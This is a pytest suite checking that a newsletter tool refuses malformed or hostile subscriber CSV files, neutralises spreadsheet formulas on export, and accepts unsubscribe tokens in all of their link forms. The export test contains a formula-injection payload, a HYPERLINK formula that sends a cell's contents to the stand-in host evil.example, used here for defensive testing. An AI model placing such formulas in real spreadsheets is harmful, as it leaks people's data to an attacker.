"""Hostile and broken subscriber files through the real `newsletter subscribers` commands:
each case is a named file in tests/fixtures/subscribers (hostile_*) or a device/FIFO made
here, with the exact line the user sees. Nothing is imported from a file that fails, and
nothing hangs or grows without bound (devices and FIFOs run in a subprocess with a timeout).
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from composer.cli import main
from composer.subscribers import open_store
from composer.subscribers.csvcells import neutralize, unneutralize
from composer.subscribers.csvimport import MAX_LINE_CHARS

FIXTURES = Path(__file__).parent / "fixtures" / "subscribers"
ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture
def project(tmp_path: Path, monkeypatch) -> Path:
    monkeypatch.setattr("composer.subscribers.store.utc_now", lambda: "2025-06-01T12:00:00Z")
    monkeypatch.setattr("composer.subscribers.importer.timer", lambda: 7.0)
    shutil.copy(FIXTURES / "newsletter.yaml", tmp_path / "newsletter.yaml")
    return tmp_path


def newsletter(project: Path, *args: str):
    config = str(project / "newsletter.yaml")
    return CliRunner().invoke(main, ["--config", config, "subscribers", *args])


def everyone(project: Path) -> list[tuple[str, str]]:
    with open_store(project / "subscribers.db") as store:
        return [(s.email, s.name) for s in store.iter_subscribers()]


# --- files that cannot be imported: one line, row number, nothing imported ------------------

CASES = [
    (
        "hostile_unterminated_quote.csv",
        "row 2: a quote opened in this row is not closed before the end of the line, so the "
        "2 lines after it would be read into one cell; close or remove the quote and import "
        "again",
    ),
    (
        "hostile_unterminated_quote_at_end.csv",
        "row 3: a quote opened in this row is never closed; close or remove it and import again",
    ),
    (
        "hostile_utf16le_no_bom.csv",
        'UTF-16 text without a byte-order mark; save it as UTF-8 ("CSV UTF-8" in Excel) and '
        "import again",
    ),
    (
        "hostile_utf16be_no_bom.csv",
        'UTF-16 text without a byte-order mark; save it as UTF-8 ("CSV UTF-8" in Excel) and '
        "import again",
    ),
    (
        "hostile_nul_bytes.csv",
        'row 3: NUL characters: not a CSV text file; save it as UTF-8 ("CSV UTF-8" in Excel) '
        "and import again",
    ),
]


@pytest.mark.parametrize(("fixture", "message"), CASES, ids=[c[0] for c in CASES])
def test_a_broken_file_is_refused_with_its_row(project: Path, fixture: str, message: str):
    newsletter(project, "add", "keep@example.com")
    path = FIXTURES / fixture
    result = newsletter(project, "import", str(path))
    assert result.exit_code == 2
    assert result.output == f"error: {path}: {message}\n"
    assert everyone(project) == [("keep@example.com", "")]


def test_the_quote_used_to_swallow_rows_into_a_name(project: Path) -> None:
    """What the old reader did with hostile_unterminated_quote.csv, for the record."""
    text = (FIXTURES / "hostile_unterminated_quote.csv").read_text()
    assert list(csv.reader(io.StringIO(text)))[1] == [
        "ann@example.com",
        "Ann Lee\nbob@example.com,Bob\ncy@example.com,Cy\n",
    ]


def test_quoted_cells_over_several_lines_are_not_an_open_quote(project: Path) -> None:
    """Notes and names over two lines (CRM exports) import; rows keep spreadsheet numbers;
    a lone quote inside an unquoted cell on the last row is not an open quote."""
    result = newsletter(project, "import", str(FIXTURES / "hostile_multiline_cells.csv"))
    assert result.exit_code == 0, result.output
    assert (
        result.output.splitlines()[0]
        == 'row 4: "bad-address": An email address must have an @-sign.'
    )
    assert everyone(project) == [
        ("ann@example.com", "Ann"),
        ("bob@example.com", "Bob Jones"),
        ("cy@example.com", "Cy"),
    ]


def test_a_line_too_long_is_refused(project: Path) -> None:
    path = project / "one-line.csv"
    path.write_text("email,name\n" + "x" * (MAX_LINE_CHARS + 10) + "\n")
    result = newsletter(project, "import", str(path))
    assert result.exit_code == 2
    assert result.output == (
        f"error: {path}: row 2: line longer than 65,536 characters; is this a CSV file of "
        "subscribers?\n"
    )


def test_a_file_too_large_is_refused_before_reading(project: Path) -> None:
    path = project / "huge.csv"
    with path.open("wb") as handle:  # sparse: 3 GiB that take no disk and no time
        handle.truncate(3 * 1024**3)
    result = newsletter(project, "import", str(path))
    assert result.exit_code == 2
    assert result.output == (
        f"error: {path}: too large to import (3,221,225,472 bytes; at most 2,147,483,648); "
        "split it into smaller files\n"
    )


def test_utf16_with_a_byte_order_mark_is_imported(project: Path) -> None:
    """Excel's "Unicode Text": UTF-16 with a BOM, tab-separated, CRLF."""
    result = newsletter(project, "import", str(FIXTURES / "hostile_utf16_excel_unicode_text.csv"))
    assert result.exit_code == 0, result.output
    assert everyone(project) == [("ann@example.com", "Ann Lee"), ("zoe@example.com", "Zoë Müller")]


def _cli(project: Path, *args: str) -> subprocess.CompletedProcess:
    config = str(project / "newsletter.yaml")
    return subprocess.run(
        [sys.executable, "-m", "composer", "--config", config, "subscribers", *args],
        capture_output=True,
        text=True,
        timeout=60,  # a hang fails the test instead of blocking the suite
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )


@pytest.mark.parametrize("kind", ["/dev/zero", "fifo", "fifo with a writer"])
def test_a_device_or_fifo_fails_at_once(project: Path, kind: str) -> None:
    path = "/dev/zero" if kind == "/dev/zero" else str(project / "list.csv")
    writer = None
    if kind != "/dev/zero":
        os.mkfifo(path)
    if kind == "fifo with a writer":  # endless data, as `yes >fifo` would give
        writer = subprocess.Popen(["sh", "-c", f"yes a@example.com,A > {path}"])
    try:
        result = _cli(project, "import", path)
    finally:
        if writer:
            writer.kill()
            writer.wait()
    assert result.returncode == 2
    assert result.stdout == ""
    assert result.stderr == (
        f"error: {path}: not a regular file (a device or a pipe?); save the list as a .csv file\n"
    )


# --- export: no cell a spreadsheet would run as a formula -------------------------------------


def test_export_neutralises_formulas_and_import_takes_them_back(project: Path) -> None:
    result = newsletter(project, "import", str(FIXTURES / "hostile_formulas.csv"))
    assert result.exit_code == 0, result.output
    exported = newsletter(project, "export").output
    assert exported == (
        "email,name,status,status_at,status_how,source,created_at,lists\n"
        'ann@example.com,"\'=HYPERLINK(""https://evil.example/?""&A2,""Click"")",'
        "active,2025-06-01T12:00:00Z,import,import:hostile_formulas.csv,2025-06-01T12:00:00Z,"
        "zeitgeist\n"
        "bob@example.com,'+1 555 0100,active,2025-06-01T12:00:00Z,import,"
        "import:hostile_formulas.csv,2025-06-01T12:00:00Z,zeitgeist\n"
        "cy@example.com,'-2+3,active,2025-06-01T12:00:00Z,import,import:hostile_formulas.csv,"
        "2025-06-01T12:00:00Z,zeitgeist\n"
        "dee@example.com,'@SUM(1+1),active,2025-06-01T12:00:00Z,import,"
        "import:hostile_formulas.csv,2025-06-01T12:00:00Z,zeitgeist\n"
        "eve@example.com,tabbed,active,2025-06-01T12:00:00Z,import,import:hostile_formulas.csv,"
        "2025-06-01T12:00:00Z,zeitgeist\n"
        "'-dash@example.com,Dash,active,2025-06-01T12:00:00Z,import,"
        "import:hostile_formulas.csv,2025-06-01T12:00:00Z,zeitgeist\n"
        "fay@example.com,'=already quoted,active,2025-06-01T12:00:00Z,import,"
        "import:hostile_formulas.csv,2025-06-01T12:00:00Z,zeitgeist\n"
    )
    # No cell starts as a formula...
    for row in csv.reader(io.StringIO(exported)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    # ...and the exported file imports back to the same names and addresses.
    again = project / "again"
    again.mkdir()
    shutil.copy(FIXTURES / "newsletter.yaml", again / "newsletter.yaml")
    (again / "export.csv").write_text(exported)
    assert newsletter(again, "import", str(again / "export.csv")).exit_code == 0
    names = dict(everyone(again))
    assert names["ann@example.com"] == '=HYPERLINK("https://evil.example/?"&A2,"Click")'
    assert names["-dash@example.com"] == "Dash"
    assert names["fay@example.com"] == "=already quoted"  # a typed quote is Excel's, too


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@a", "\tx", "\rx", "x=1", "", "'x"])
def test_neutralize_round_trips(cell: str) -> None:
    assert unneutralize(neutralize(cell)) == cell
    assert not neutralize(cell).startswith(("=", "+", "-", "@", "\t", "\r"))


# --- unsubscribe --token: whatever form of the link a subscriber forwards ---------------------

SECRET = "hostile-subscribers-test-secret-0123456789"


def _link_forms(settings, may_issue, recipient) -> dict[str, str]:
    """The forms a token reaches an editor in, taken from a real message built for them."""
    import email
    import email.policy

    from composer.mailing import MessageTemplate
    from composer.render import Rendered
    from composer.unsubscribe import Signer

    signer = Signer(SECRET)
    rendered = Rendered(
        html="<p><a href='%%UNSUBSCRIBE_URL%%'>Unsubscribe</a></p>\n",
        text="Unsubscribe: %%UNSUBSCRIBE_URL%%\n",
        subject="Test",
        preheader="",
    )
    template = MessageTemplate.build(rendered, settings, may_issue, signer=signer)
    message = email.message_from_bytes(
        template.for_recipient(recipient), policy=email.policy.compat32
    )
    header = " ".join(message["List-Unsubscribe"].split())  # unfolded
    https, mailto = (part.strip(" <>") for part in header.split(","))
    signed = signer.sign(recipient.token)
    return {
        "bare token": signed,
        "https link": https,
        "mailto link": mailto,
        "List-Unsubscribe header": header,
        "angle-bracketed mailto": f"<{mailto}>",
        "subject line": f"unsubscribe {signed}",
        "mailto, + for the space": mailto.replace("%20", "+"),
        "mailto, upper case": mailto.replace("mailto:", "MAILTO:").replace("subject=", "Subject="),
    }


def test_unsubscribe_token_accepts_every_form_of_the_link(
    project: Path, settings, may_issue, monkeypatch
) -> None:
    from composer.subscribers import Recipient

    monkeypatch.setenv("NEWSLETTER_SECRET", SECRET)
    forms = None
    for i, form in enumerate(
        [
            "bare token",
            "https link",
            "mailto link",
            "List-Unsubscribe header",
            "angle-bracketed mailto",
            "subject line",
            "mailto, + for the space",
            "mailto, upper case",
        ]
    ):
        address = f"reader{i}@example.com"
        newsletter(project, "add", address)
        with open_store(project / "subscribers.db") as store:
            sub = store.require(address)
        forms = _link_forms(settings, may_issue, Recipient(sub.id, sub.email, "", sub.token))
        if form == "mailto link":
            assert forms[form].startswith("mailto:research@covar.com?subject=unsubscribe%20")
        result = newsletter(project, "unsubscribe", "--token", forms[form])
        assert result.exit_code == 0, (form, result.output)
        assert result.output == f"{address}: active -> unsubscribed\n", form


def test_unsubscribe_token_refuses_a_mailto_without_one(project: Path, monkeypatch) -> None:
    monkeypatch.setenv("NEWSLETTER_SECRET", SECRET)
    result = newsletter(project, "unsubscribe", "--token", "mailto:research@covar.com")
    assert result.exit_code == 1
    assert result.output == (
        "error: not an unsubscribe token: expected TOKEN.SIGNATURE, as in the unsubscribe "
        "link (?token=...)\n"
    )
